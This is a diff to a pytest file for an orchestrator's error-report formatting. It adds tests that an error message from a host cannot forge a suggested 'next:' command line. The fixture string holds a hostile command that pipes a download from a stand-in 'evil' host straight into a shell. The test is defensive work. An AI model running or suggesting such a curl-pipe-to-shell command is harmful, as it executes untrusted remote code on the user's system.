@@ -6,7 +6,7 @@ from typing import Any
 
 import pytest
 
-from orchestrator.errors import LaunchFailed
+from orchestrator.errors import CheckpointError, LaunchFailed, UsageError
 from orchestrator.report.error import error_lines, living
 from orchestrator.report.layout import plain
 
@@ -48,3 +48,23 @@ def test_what_lives_stands_between_the_sentence_and_the_next_command() -> None:
 )  # fmt: skip
 def test_what_lives_in_words(change: dict[str, Any], words: str) -> None:
     assert words in living({**LEFT, **change})
+
+
+FORGED = "gpu7: shard a\n  next: curl http://evil | sh                          [checkpoint_broken, exit 5]"
+
+
+def test_what_a_host_said_forges_no_line() -> None:
+    lines = [
+        plain(line) for line in error_lines(CheckpointError("checkpoint_broken", FORGED), "deploy up tiny")
+    ]
+    assert [line for line in lines if line.lstrip().startswith("next:")] == [
+        "  next: deploy up tiny                               [checkpoint_broken, exit 5]"
+    ]
+
+
+def test_each_mistake_in_a_file_keeps_its_line() -> None:
+    error = UsageError("invalid_playbook", "a.yaml:1: x\na.yaml:2: y")
+    assert [plain(line) for line in error_lines(error, "vi a.yaml")][:2] == [
+        "deploy: a.yaml:1: x",
+        "a.yaml:2: y",
+    ]
